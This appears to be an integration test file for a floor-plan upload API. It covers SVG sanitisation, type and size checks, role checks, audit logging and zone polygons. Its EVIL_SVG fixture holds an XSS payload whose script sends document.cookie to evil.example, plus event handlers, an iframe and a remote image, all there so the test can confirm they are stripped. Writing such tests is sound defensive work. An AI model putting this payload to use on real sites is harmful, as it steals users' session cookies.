import { startTestApi, type GraphqlClient, type TestApi } from '@plekwijzer/test';

const MAX = 64 * 1024;
const PNG_1x1 = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==', 'base64');

const EVIL_SVG = `<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 2000 1000" onload="alert('load')">
  <script>fetch('https://evil.example/?c=' + document.cookie)</script>
  <rect id="wall" x="10" y="10" width="1980" height="980" fill="none" stroke="#333" onclick="alert('click')"/>
  <foreignObject width="100" height="100"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example"/></foreignObject>
  <image xlink:href="https://evil.example/tracker.png" width="1" height="1"/>
  <text x="100" y="100">Vergaderzaal</text>
</svg>`;

let api: TestApi;
let fm: GraphqlClient;
let employee: GraphqlClient;
beforeAll(async () => {
  api = await startTestApi({ env: { FLOOR_PLAN_MAX_BYTES: String(MAX) } });
  fm = await api.as(await api.make.user({ roles: ['FACILITY_MANAGER'] }));
  employee = await api.as(await api.make.user());
});
afterAll(() => api.close());

const planUrl = (floorId: string) => `${api.baseUrl}/api/floors/${floorId}/plan`;
const put = (floorId: string, body: Buffer | string, client: GraphqlClient | null = fm, contentType = 'application/octet-stream') =>
  fetch(planUrl(floorId), {
    method: 'PUT',
    headers: { 'content-type': contentType, ...(client?.token ? { authorization: `Bearer ${client.token}` } : {}) },
    body,
  });
type ErrorBody = { errors: { extensions: Record<string, unknown> }[] };
const errorsOf = async (res: Response) => ((await res.json()) as ErrorBody).errors;
const get = (floorId: string, client: GraphqlClient = employee, headers: Record<string, string> = {}) =>
  fetch(planUrl(floorId), { headers: { authorization: `Bearer ${client.token}`, ...headers } });

describe('uploading a floor plan', () => {
  it('cleans an SVG of scripts, event handlers, foreignObject and remote references, and serves it so nothing can run', async () => {
    const site = await api.make.site();
    const res = await put(site.floorId, EVIL_SVG, fm, 'image/png');
    expect(res.status).toBe(200);
    const body = await res.json();
    // the plan keeps the floor's width and takes the image's proportions
    expect(body).toMatchObject({ contentType: 'image/svg+xml', width: 2000, height: 1000, planWidth: 1000, planHeight: 500 });

    const served = await get(site.floorId);
    expect(served.status).toBe(200);
    expect(served.headers.get('content-type')).toBe('image/svg+xml');
    expect(served.headers.get('content-security-policy')).toBe("default-src 'none'; style-src 'unsafe-inline'; sandbox");
    expect(served.headers.get('x-content-type-options')).toBe('nosniff');
    const svg = await served.text();
    expect(svg).toMatch(/^<svg xmlns="http:\/\/www\.w3\.org\/2000\/svg"/);
    expect(svg).toContain('<text x="100" y="100">Vergaderzaal</text>');
    expect(svg).not.toMatch(/script|onload|onclick|alert|foreignObject|iframe|evil\.example|cookie/i);

    const again = await get(site.floorId, employee, { 'if-none-match': served.headers.get('etag')! });
    expect(again.status).toBe(304);

    const floor = await employee.data(
      `query($id: ID!) { site(id: $id) { floors { planWidth planHeight plan { contentType width height url } } } }`,
      {
        id: site.id,
      },
    );
    expect(floor.site.floors[0]).toEqual({
      planWidth: 1000,
      planHeight: 500,
      plan: {
        contentType: 'image/svg+xml',
        width: 2000,
        height: 1000,
        url: expect.stringMatching(/^\/api\/floors\/[0-9a-f-]+\/plan\?v=[0-9a-f]{16}$/),
      },
    });
  });

  it('takes a PNG whatever the file is called or declared as, and replaces the earlier plan', async () => {
    const site = await api.make.site();
    expect((await put(site.floorId, EVIL_SVG)).status).toBe(200);
    const res = await put(site.floorId, PNG_1x1, fm, 'image/svg+xml');
    expect(await res.json()).toMatchObject({ contentType: 'image/png', width: 1, height: 1, planHeight: 1000 });
    const served = await get(site.floorId);
    expect(served.headers.get('content-type')).toBe('image/png');
    expect(Buffer.from(await served.arrayBuffer()).equals(PNG_1x1)).toBe(true);
  });

  it('refuses a file over the limit and anything that is not an SVG, PNG or JPEG, with the reason', async () => {
    const site = await api.make.site();
    const big = await put(site.floorId, Buffer.concat([PNG_1x1, Buffer.alloc(MAX)]));
    expect(big.status).toBe(413);
    expect(await big.json()).toEqual({
      errors: [
        { message: expect.any(String), extensions: { code: 'BAD_USER_INPUT', reason: 'FLOOR_PLAN_TOO_LARGE', params: { maxBytes: MAX } } },
      ],
    });
    const gif = await put(
      site.floorId,
      Buffer.from('GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x00\x00\x00\x00\x00,', 'latin1'),
      fm,
      'image/png',
    );
    expect(gif.status).toBe(415);
    expect((await errorsOf(gif))[0]?.extensions).toEqual({
      code: 'BAD_USER_INPUT',
      reason: 'FLOOR_PLAN_UNSUPPORTED_TYPE',
      params: { detected: 'gif' },
    });
    const html = await put(site.floorId, '<html><body><script>alert(1)</script></body></html>', fm, 'image/svg+xml');
    expect(html.status).toBe(415);
    const broken = await put(site.floorId, PNG_1x1.subarray(0, 20));
    expect((await errorsOf(broken))[0]?.extensions.reason).toBe('FLOOR_PLAN_INVALID_IMAGE');
    expect((await get(site.floorId)).status).toBe(404);
    const { rows } = await api.db.query(`SELECT count(*)::int AS n FROM floor_plans WHERE floor_id = $1`, [site.floorId]);
    expect(rows[0].n).toBe(0);
  });

  it('lets only facility managers and administrators upload, and only signed-in people see it', async () => {
    const site = await api.make.site();
    expect((await put(site.floorId, PNG_1x1, null)).status).toBe(401);
    const refused = await put(site.floorId, PNG_1x1, employee);
    expect(refused.status).toBe(403);
    expect((await errorsOf(refused))[0]?.extensions).toEqual({ code: 'FORBIDDEN', reason: 'AUTH_ROLE_FORBIDDEN' });
    const admin = await api.as(await api.make.user({ roles: ['ADMIN'] }));
    expect((await put(site.floorId, PNG_1x1, admin)).status).toBe(200);
    expect((await fetch(planUrl(site.floorId))).status).toBe(401);
    expect((await put('not-a-uuid', PNG_1x1)).status).toBe(400);
    expect((await put('9f1f8d76-5b1e-4d0a-9a7e-2b0c8c3f5d11', PNG_1x1)).status).toBe(404);
  });

  it('records uploads and removal in the administrative record', async () => {
    const site = await api.make.site();
    await put(site.floorId, PNG_1x1);
    await fm.data(`mutation($id: ID!) { removeFloorPlan(input: { floorId: $id }) { id } }`, { id: site.floorId });
    expect((await get(site.floorId)).status).toBe(404);
    const { adminChanges } = await fm.data(`query($id: ID!) { adminChanges(targetId: $id) { action changes { field before after } } }`, {
      id: site.floorId,
    });
    expect(adminChanges.map((c: { action: string }) => c.action)).toEqual(
      expect.arrayContaining(['floor_plan.upload', 'floor_plan.remove']),
    );
    const upload = adminChanges.find((c: { action: string }) => c.action === 'floor_plan.upload');
    expect(upload.changes).toContainEqual({ field: 'contentType', before: null, after: '"image/png"' });
  });
});

describe('zones drawn on the plan', () => {
  it('take a polygon outline, can be redrawn, renamed and deleted (their spaces stay)', async () => {
    const site = await api.make.site();
    const rect = [
      { x: 10, y: 10 },
      { x: 210, y: 10 },
      { x: 210, y: 110 },
      { x: 10, y: 110 },
    ];
    const zone = (
      await fm.data(`mutation($input: CreateZoneInput!) { createZone(input: $input) { id outline { x y } } }`, {
        input: { floorId: site.floorId, name: 'Zone B', outline: rect },
      })
    ).createZone;
    expect(zone.outline).toEqual(rect);
    const desk = await api.make.space(site.floorId, { zoneId: zone.id });
    const flat = await fm.error(`mutation($input: UpdateZoneInput!) { updateZone(input: $input) { id } }`, {
      input: {
        id: zone.id,
        outline: [
          { x: 0, y: 0 },
          { x: 5, y: 5 },
          { x: 10, y: 10 },
        ],
      },
    });
    expect(flat.extensions).toMatchObject({ reason: 'ZONE_OUTLINE_INVALID', fieldErrors: [{ field: 'outline' }] });
    const renamed = await fm.data(`mutation($input: UpdateZoneInput!) { updateZone(input: $input) { name outline { x } } }`, {
      input: { id: zone.id, name: 'Stiltezone', outline: null },
    });
    expect(renamed.updateZone).toEqual({ name: 'Stiltezone', outline: null });
    await fm.data(`mutation($id: ID!) { deleteZone(input: { id: $id }) { id } }`, { id: zone.id });
    const { rows } = await api.db.query(`SELECT zone_id FROM spaces WHERE id = $1`, [desk.id]);
    expect(rows).toEqual([{ zone_id: null }]);
  });
});
